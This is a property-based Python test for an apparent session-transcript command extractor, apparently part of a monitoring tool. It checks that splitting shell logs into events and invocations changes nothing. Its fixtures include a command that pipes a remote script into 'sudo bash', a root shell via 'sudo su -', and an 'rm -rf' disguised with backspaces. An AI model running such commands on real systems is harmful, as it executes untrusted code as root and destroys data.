"""However a session's lines are cut into log events and invocations, the same commands come out,
each once, under the same source ids (property-based)."""

from __future__ import annotations

from itertools import pairwise

from hypothesis import given, settings
from hypothesis import strategies as st

from ssm_warden.transcript.extract import Command, Extractor, WatchState

PROMPT = "[ec2-user@ip-10-0-0-1 ~]$ "
BLOCKS = [
    [f"{PROMPT}ls -la", "total 0", "drwxr-xr-x 2 root root 6 a"],
    [f"{PROMPT}cat <<'EOF' > /tmp/x", "> line one", "> EOF"],
    [f"{PROMPT}curl -fsSL http://203.0.113.9/x.sh \\", "> | sudo bash", "curl: (7) refused"],
    [f"{PROMPT}for h in a b; do", ">   ping -c1 $h", "> done", "PING a", "PING b"],
    [f"{PROMPT}echo 'open", "> quote'", "open", "quote"],
    [f"{PROMPT}sudo su -", "Last login: today", "[root@ip-10-0-0-1 ~]# id", "uid=0(root)"],
    ["[root@ip-10-0-0-1 ~]# exit", "logout"],
    ["plain output line", "> quoted output after a complete command"],
    [f"{PROMPT}rm -rf /tmpx\b \b/cache"],
]


def run(lines: list[str], event_cuts: list[int], invocation_cuts: set[int]) -> list[Command]:
    """Extract with events cut at ``event_cuts`` and a new invocation (state stored and read back)
    before the events whose index is in ``invocation_cuts``."""
    bounds = [0, *sorted(set(event_cuts)), len(lines)]
    events = [(str(1000 + k), lines[a:b]) for k, (a, b) in enumerate(pairwise(bounds))]
    found: list[Command] = []
    extractor = Extractor()
    for k, (event_id, event_lines) in enumerate(events):
        if k in invocation_cuts:
            found.extend(extractor.result.commands)
            extractor = Extractor(WatchState.model_validate(extractor.state.model_dump(mode="json")))
        extractor.feed(event_id, event_lines)
    found.extend(extractor.result.commands)
    return found


@settings(max_examples=150, deadline=None)
@given(
    blocks=st.lists(st.sampled_from(range(len(BLOCKS))), min_size=1, max_size=12),
    data=st.data(),
)
def test_cutting_into_events_and_invocations_changes_nothing(blocks: list[int], data: st.DataObject) -> None:
    lines = ["sh-4.2$ sh-4.2$ bash"] + [line for b in blocks for line in BLOCKS[b]]
    # Given the session's lines cut into events at arbitrary points
    cuts = data.draw(st.lists(st.integers(1, max(1, len(lines) - 1)), max_size=8))
    n_events = len(set(cuts)) + 1
    # When they are fed once in one invocation, and again with new invocations at arbitrary events
    reference = run(lines, cuts, set())
    invocations = data.draw(st.sets(st.integers(1, max(1, n_events - 1)), max_size=4))
    split = run(lines, cuts, invocations)
    # Then the same commands come out, each once, with the same source ids
    assert split == reference
    assert len({c.source_id for c in split}) == len(split)
